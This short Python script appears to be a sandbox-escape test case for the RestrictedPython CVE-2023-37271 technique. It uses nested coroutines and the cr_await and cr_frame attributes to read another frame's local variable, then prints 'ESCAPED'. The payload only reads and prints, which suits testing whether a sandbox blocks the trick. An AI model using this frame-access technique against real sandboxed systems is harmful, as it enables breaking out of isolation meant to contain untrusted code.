# technique: cr_frame and cr_await
# goal: frames
# source: RestrictedPython, CVE-2023-37271
class Wait:
    def __await__(self):
        yield


async def inner():
    hidden = 42
    await Wait()


async def outer():
    await inner()


me = outer()
me.send(None)
frame = me.cr_await.cr_frame
if frame.f_locals['hidden'] == 42:
    print('ESCAPED locals of', frame.f_code.co_name)
